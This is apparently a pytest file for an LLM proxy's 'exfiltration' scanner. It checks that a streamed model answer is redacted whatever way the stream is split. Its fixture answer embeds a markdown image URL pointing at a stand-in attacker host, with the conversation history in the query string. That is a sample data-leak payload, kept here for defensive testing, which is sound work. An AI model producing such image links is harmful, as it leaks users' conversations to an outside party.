"""An answer that would leak the conversation through an image URL, through real Envoy:
the `exfiltration` scanner on `response` redacts it however the upstream splits the stream,
and the SDK receives exactly what `weir scan --redact` makes of the whole text."""

from __future__ import annotations

import base64
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from mesh.sandbox import SANDBOX_POLICY, MeshSandbox

WEIR = shutil.which("weir") or str(Path(sys.executable).parent / "weir")
ANSWER = (
    "Here is the chart you asked for: "
    "![chart](https://stats.evil.example/p.png?d={conversation_history}) "
    "and the docs are at [the guide](https://example.com/guide). Anything else?"
)
PROMPT = [{"role": "user", "content": "Draw me a chart."}]


@pytest.fixture(scope="module")
def exfil_mesh(tmp_path_factory: pytest.TempPathFactory) -> Iterator[MeshSandbox]:
    line = "      - {scanner: pii, action: redact}\n"
    assert line in SANDBOX_POLICY
    extra = "      - {scanner: exfiltration, action: redact}\n"
    policy = SANDBOX_POLICY.replace(line, line + extra)
    with MeshSandbox(tmp_path_factory.mktemp("exfil"), policy_text=policy) as running:
        yield running


def offline_redaction(text: str) -> str:
    result = subprocess.run(
        [WEIR, "scan", "--scanners", "secrets,pii,exfiltration", "--redact", "-"],
        input=text, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert result.returncode == 1, result.stderr
    return result.stdout


@pytest.mark.parametrize("split", [{"x-fake-token-bytes": "1"}, {"x-fake-split-seed": "4"}])
def test_an_exfiltrating_image_is_redacted_in_the_stream(
    exfil_mesh: MeshSandbox, split: dict[str, str]
) -> None:
    headers = {"x-fake-reply-b64": base64.b64encode(ANSWER.encode()).decode(), **split}
    client = exfil_mesh.openai_client("checkout")
    pieces = []
    for chunk in client.chat.completions.create(
        model="gpt-4o", messages=PROMPT, stream=True, extra_headers=headers
    ):
        if chunk.choices and chunk.choices[0].delta.content:
            pieces.append(chunk.choices[0].delta.content)
    received = "".join(pieces)
    assert received == offline_redaction(ANSWER)
    assert "[REDACTED:markdown-image-exfiltration]" in received
    assert "stats.evil.example" not in received
    assert "[the guide](https://example.com/guide)" in received
